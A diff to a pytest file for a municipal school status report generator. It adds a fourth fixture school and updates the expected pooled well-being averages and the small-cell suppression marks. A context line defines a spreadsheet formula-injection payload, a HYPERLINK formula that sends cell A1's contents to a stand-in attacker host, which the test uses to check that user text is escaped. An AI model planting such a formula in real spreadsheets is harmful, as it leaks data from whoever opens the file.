@@ -26,21 +26,24 @@ INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
 @pytest.fixture
 def rdb(db):
-    """Three schools of Eksempelby with 2021/22 national tests and well-being (hand-made numbers).
+    """Four schools of Eksempelby with 2021/22 national tests and well-being (hand-made numbers).
 
     Well-being, general (value, respondents): Nordskolen 3.9 (100), Sydskolen 3.5 (300),
-    Lilleskolen 4.2 (3: fewer than 5, withheld but still in the municipality's pool).
+    Lilleskolen 4.2 (3: fewer than 5, withheld but still in the municipality's pool), Småskolen 4.0
+    (20: withheld too, the smallest other school, as the municipality minus the other three would give
+    Lilleskolen's 3 back).
     National tests: Nordskolen, grade 4 reading, 20 tested, levels 1..6 = 1, 2, 3, 6, 5, 3.
     """
     with database.write(db) as con:
         con.execute(
             "INSERT INTO institutions (institution_id, name, kind, municipality_code) VALUES"
             " ('999001', 'Nordskolen', 'skole', 999), ('999002', 'Sydskolen', 'skole', 999),"
-            " ('999003', 'Lilleskolen', 'skole', 999)"
+            " ('999003', 'Lilleskolen', 'skole', 999), ('999004', 'Småskolen', 'skole', 999)"
         )
         con.execute(
             "INSERT INTO wellbeing VALUES (1, '999001', 2021, NULL, 'general', 3.9, 100),"
-            " (1, '999002', 2021, NULL, 'general', 3.5, 300), (1, '999003', 2021, NULL, 'general', 4.2, 3)"
+            " (1, '999002', 2021, NULL, 'general', 3.5, 300), (1, '999003', 2021, NULL, 'general', 4.2, 3),"
+            " (1, '999004', 2021, NULL, 'general', 4.0, 20)"
         )
         con.execute(
             "INSERT INTO test_aggregates VALUES (1, '999001', 2021, 4, 'dansk_laesning', 'national_test',"
@@ -81,8 +84,8 @@ def test_status_xlsx_sheets_values_and_marks(rdb):
     assert wb["Forside"]["A1"].value == "Statusrapport 2021/22"
     assert "ikke lovpligtig" in cover["Om rapporten"] and "§ 40 a" in cover["Om rapporten"]
 
-    # 3.9 >= 3.8: met. Sydskolen 3.5 and the municipality 3.604 miss it before the target year
-    # with only one year of data (no line to fit): not met. Lilleskolen is withheld: no data.
+    # 3.9 >= 3.8: met. Sydskolen 3.5 and the municipality 3.623 miss it before the target year
+    # with only one year of data (no line to fit): not met. Lilleskolen and Småskolen are withheld: no data.
     goals = wb["Mål"]
     by_unit = {r[2].value: r for r in goals.iter_rows(min_row=5)}
     statuses = {unit: r[6] for unit, r in by_unit.items()}
@@ -91,19 +94,21 @@ def test_status_xlsx_sheets_values_and_marks(rdb):
         "Lilleskolen": "Ingen data",
         "Nordskolen": "Opfyldt",
         "Sydskolen": "Ikke opfyldt",
+        "Småskolen": "Ingen data",
     }
     assert statuses["Nordskolen"].fill.fgColor.rgb == "00009E73"
     assert by_unit["Nordskolen"][4].value == 3.9 and by_unit["Nordskolen"][4].number_format == "0.00"
-    assert by_unit["Eksempelby Kommune"][4].value == pytest.approx(1452.6 / 403)
+    assert by_unit["Eksempelby Kommune"][4].value == pytest.approx(1532.6 / 423)
 
     wb_rows = rows(wb["Trivsel"])
     # Nordskolen's own value, and the municipality pooled on respondents:
-    # (3.9*100 + 3.5*300 + 4.2*3) / (100 + 300 + 3) = 1452.6 / 403 = 3.60447...
+    # (3.9*100 + 3.5*300 + 4.2*3 + 4.0*20) / (100 + 300 + 3 + 20) = 1532.6 / 423 = 3.62317...
     assert wb_rows["Nordskolen"][:2] == [3.9, 100]
-    assert wb_rows["Eksempelby Kommune"][0] == pytest.approx(1452.6 / 403)
-    assert wb_rows["Eksempelby Kommune"][1] == 403
-    # Lilleskolen: 3 respondents, fewer than 5: withheld, and says so (not blank, not zero).
-    assert wb_rows["Lilleskolen"][0] == "<5"
+    assert wb_rows["Eksempelby Kommune"][0] == pytest.approx(1532.6 / 423)
+    assert wb_rows["Eksempelby Kommune"][1] == 423
+    # Lilleskolen: 3 respondents, fewer than 5: withheld, and says so (not blank, not zero); Småskolen is
+    # withheld so that Lilleskolen cannot be worked out: marked x; neither shows its n.
+    assert wb_rows["Lilleskolen"][:2] == ["<5", "–"] and wb_rows["Småskolen"][:2] == ["x", "–"]
     assert cell(wb["Trivsel"], "Nordskolen", 2).number_format == "0.00"
     assert wb["Trivsel"].freeze_panes == "A5"
 
@@ -145,7 +150,7 @@ def test_status_html_is_self_contained_with_figures(rdb):
     assert not [r for r in parser.refs if re.match(r"\s*(https?:)?//", r)]
     assert "@page { size: A4" in page and MARK in page
     assert "<h1>Statusrapport 2021/22 – Eksempelby Kommune</h1>" in page and "Kvalitetsrapport" not in page
-    assert "3,9" in page and "&lt;5" in page
+    assert "3,9" in page and "&lt;5" in page and ">x<" in page
     assert str(markupsafe.escape(INJECTION)) in page and INJECTION not in page  # user text is escaped
     public = status(rdb, Viewer.parse("public"), "html").decode("utf-8")
     assert MARK not in public and "Nationale test" not in public
